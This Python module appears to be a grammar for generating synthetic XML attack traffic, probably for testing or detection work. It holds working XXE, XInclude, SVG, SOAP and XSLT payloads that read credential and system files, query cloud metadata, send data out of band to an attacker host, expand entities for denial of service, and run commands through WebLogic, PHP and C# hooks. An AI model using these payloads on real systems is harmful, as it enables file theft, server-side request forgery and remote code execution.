"""XML external entities, entity expansion, XInclude, and XML that makes a server run or fetch.

Forms after the XML 1.0 recommendation (entities, DTDs), XInclude 1.1 and OWASP's XXE page.
"""

from traffic.grammars.attacks.pieces import Grammar, Symbols

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "e": ("xxe", "‹abc›", "‹rnd›", "test", "file", "ent", "payload", "ext", "remote", "a"),
    "root": (
        "foo", "root", "data", "‹id›", "‹word›", "order", "stockCheck", "user", "test", "x", "ANY",
        "lolz",
    ),
    "decl": (
        "", "", '<?xml version="1.0"?>',
        '<?xml version="1.0" encoding="‹UTF-8¦utf-8¦ISO-8859-1¦UTF-7¦utf-16¦UTF-16BE›"?>',
        "<?xml version='1.0' standalone='no'?>", '<?xml version="1.0" encoding="UTF-8"?>\n',
    ),
    "res": (
        "file:///etc/passwd", "file:///etc/‹shadow¦hosts¦hostname¦‹id››",
        "file:///c:/windows/win.ini", "file:///C:/boot.ini", "‹url›", "‹url›",
        "http://169.254.169.254/latest/meta-data/‹id?›",
        "php://filter/read=convert.base64-encode/resource=‹/etc/passwd¦index.php¦config.php¦"
        "‹id›.php›",
        "expect://‹id¦whoami¦ls›", "http://‹lan›:‹port›/‹id?›", "ftp://‹evil›/‹id›",
        "gopher://‹lan›:‹port›/_‹rnd›", "/dev/random",
        "file:///proc/self/‹environ¦cmdline¦cwd/‹id››", "jar:‹url›!/‹id›", "netdoc:/etc/passwd",
        "file:///dev/tcp/‹ip›/‹port›", "\\\\‹ip›\\‹abc›", "data://text/plain;base64,‹b64s›",
        "file:///D:/‹id›.txt", "file:////‹ip›/‹abc›", "http://‹evil›/‹id›.dtd",
    ),
    "q": ('"', '"', "'"),
    "ws": (" ", " ", "\n", "  ", "\t"),
    "kw": ("SYSTEM ", "SYSTEM ", "SYSTEM ", 'PUBLIC "‹id›" ', 'PUBLIC "-//‹id›//‹id›//EN" '),
    "subset": (
        "<!ENTITY‹ws›‹e#1›‹ws›‹kw›‹q#1›‹res›‹q#1›>",
        "<!ELEMENT ‹root› ANY><!ENTITY ‹e#1› ‹kw›‹q#1›‹res›‹q#1›>",
        '<!ELEMENT ‹root› ANY >\n<!ENTITY ‹e#1› ‹kw›"‹res›" >',
    ),
}

_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    general_entity=(
        "‹decl›<!DOCTYPE‹ws›‹root#1›‹ws›[‹subset›]><‹root#1›>&‹e#1›;</‹root#1›>",
        "‹decl›<!DOCTYPE ‹root#1› [‹subset›]><‹root#1›><‹id#2›>&‹e#1›;</‹id#2›><‹id#3›>"
        "‹val›</‹id#3›></‹root#1›>",
        "‹decl›<!DOCTYPE ‹root#1›[‹subset›]>",
        "<!DOCTYPE ‹root#1› [‹subset›]><‹root#1›>‹words› &‹e#1›;</‹root#1›>",
        "‹val›<!DOCTYPE ‹root#1› [‹subset›]>&‹e#1›;",
    ),
    parameter_entity=(
        "‹decl›<!DOCTYPE ‹root› [<!ENTITY % ‹e#1› ‹kw›‹q#1›‹res›‹q#1›> %‹e#1›;]>",
        '‹decl›<!DOCTYPE ‹root#1› [<!ENTITY % ‹e#1› SYSTEM "http://‹evil›/‹id›.dtd">%‹e#1›;%‹e#2›;'
        "]><‹root#1›>&‹e#3›;</‹root#1›>",
        '<!ENTITY % ‹e#1› SYSTEM "‹res›"><!ENTITY % ‹e#2› "<!ENTITY &#x25; ‹e#3› SYSTEM '
        '\'‹url›?‹abc›=%‹e#1›;\'>">%‹e#2›;%‹e#3›;',
        "<!DOCTYPE ‹root› [<!ENTITY % ‹e#1› SYSTEM '‹res›'><!ENTITY % ‹e#2› '<!ENTITY &#37; ‹e#3› "
        'SYSTEM "file:///‹rnd›/%‹e#1›;">\'>%‹e#2›;]>',
        '<!DOCTYPE ‹root›[<!ENTITY % local_dtd SYSTEM "file:///usr/share/‹yelp/dtd/docbookx.dtd¦'
        'xml/fontconfig/fonts.dtd¦‹id›/‹id›.dtd›">%local_dtd;]>',
        '%‹e#1›;%‹e#2›;<!ENTITY % ‹e#1› SYSTEM "‹res›">',
    ),
    external_dtd=(
        '‹decl›<!DOCTYPE ‹root#1› ‹kw›"‹url›/‹id›.dtd"><‹root#1›>‹val›</‹root#1›>',
        "<!DOCTYPE ‹root› SYSTEM '‹res›'>",
        '‹decl›<!DOCTYPE ‹root#1› PUBLIC "-//‹id›//DTD ‹id›//EN" "‹res›"><‹root#1›/>',
        '<!DOCTYPE html SYSTEM "‹url›"><‹root›>',
        '<!DOCTYPE ‹root› SYSTEM "‹url›" [<!ELEMENT ‹id› ANY>]>',
    ),
    expansion=(
        '<!DOCTYPE ‹root#1› [<!ENTITY ‹abc#1› "‹rnd›"><!ENTITY ‹abc#2› "&‹abc#1›;&‹abc#1›;'
        '&‹abc#1›;&‹abc#1›;&‹abc#1›;"><!ENTITY ‹abc#3› "&‹abc#2›;&‹abc#2›;&‹abc#2›;&‹abc#2›;">]>'
        "<‹root#1›>&‹abc#3›;</‹root#1›>",
        '‹decl›<!DOCTYPE lolz [<!ENTITY lol "‹rnd›"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;'
        '"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>',
        '<!DOCTYPE ‹root› [<!ENTITY ‹abc#1› "‹rnd›‹rnd›‹rnd›‹rnd›">]><‹abc›>&‹abc#1›;&‹abc#1›;'
        "&‹abc#1›;&‹abc#1›;&‹abc#1›;&‹abc#1›;&‹abc#1›;</‹abc›>",
        "<!DOCTYPE ‹root› [<!ENTITY % ‹abc#1› '&#37;‹abc#1›;'>%‹abc#1›;]>",
    ),
    xinclude=(
        '<‹root#1› xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" '
        'href="‹res›"/></‹root#1›>',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="‹res›"‹ parse="text"¦›/>',
        "‹val›<xi:include href='‹res›' parse='text' xmlns:xi='http://www.w3.org/2001/XInclude'>"
        "<xi:fallback>‹word›</xi:fallback></xi:include>",
        '"><xi:include parse=\'text\' href=\'‹res›\'/>',
    ),
    svg=(
        '‹decl›<!DOCTYPE svg [<!ENTITY ‹e#1› SYSTEM "‹res›">]><svg '
        'xmlns="http://www.w3.org/2000/svg"><text x="‹n›" y="‹n›">&‹e#1›;</text></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<image xlink:href="‹expect://ls¦‹res›¦text:/etc/passwd›" width="‹n›"/></svg>',
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "‹url›"><svg/>',
        'push graphic-context\nviewbox 0 0 ‹n› ‹n›\nfill \'url(‹url›"|‹id¦ls›")\'\npop '
        "graphic-context",
    ),
    soap=(
        '<soap:Body><‹id#1›><![CDATA[<!DOCTYPE doc [<!ENTITY % ‹e#1› SYSTEM "‹url›"> %‹e#1›;]>'
        "<xxx/>]]></‹id#1›></soap:Body>",
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE '
        "‹root› [<!ENTITY ‹e#1› SYSTEM '‹res›'>]><soapenv:Body>&‹e#1›;</soapenv:Body>"
        "</soapenv:Envelope>",
        '‹decl›<!DOCTYPE ‹root› [<!ENTITY ‹e#1› SYSTEM "‹res›">]><methodCall><methodName>&‹e#1›;'
        "</methodName></methodCall>",
        '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object '
        'class="java.lang.ProcessBuilder"><string>‹id›</string><void method="start"/></object>'
        "</java></work:WorkContext>",
        "‹decl›<!DOCTYPE rss [<!ENTITY ‹e#1› SYSTEM '‹res›'>]><rss><channel><title>&‹e#1›;</title>"
        "</channel></rss>",
    ),
    stylesheet=(
        '<xsl:value-of select="‹system-property(\'xsl:vendor\')¦unparsed-text(\'/etc/passwd\')¦'
        'php:function(\'‹passthru¦system›\',\'‹id›\')¦document(\'‹res›\')›"/>',
        '<?xml-stylesheet type="text/xsl" href="‹url›/‹id›.xsl"?><‹root›/>',
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        '<xsl:template match="/"><xsl:copy-of select="document(\'‹res›\')"/></xsl:template>'
        "</xsl:stylesheet>",
        '<xsl:include href="‹url›"/>',
        '<msxsl:script language="C#" implements-prefix="‹abc›">System.Diagnostics.Process.Start("‹'
        'id›")</msxsl:script>',
        '<xs:schema><xs:import namespace="‹id›" schemaLocation="‹res›"/></xs:schema>',
        '<‹root› xsi:schemaLocation="‹id› ‹url›/‹id›.xsd" xmlns:xsi="http://www.w3.org/2001/XMLSch'
        'ema-instance"><!ENTITY ‹e›>',
    ),
    in_json=(
        '{"‹id›":"<!DOCTYPE ‹root› [<!ENTITY ‹e#1› SYSTEM \'‹res›\'>]><‹abc›>&‹e#1›;</‹abc›>"}',
        '<!ENTITY ‹e› SYSTEM "‹res›">', "<!ENTITY‹ws›%‹ws›‹e›‹ws›SYSTEM‹ws›'‹res›'>",
        "]><‹root›>&‹e#1›;<!DOCTYPE ‹abc› [<!ENTITY ‹e#1› SYSTEM '‹res›'>",
    ),
)
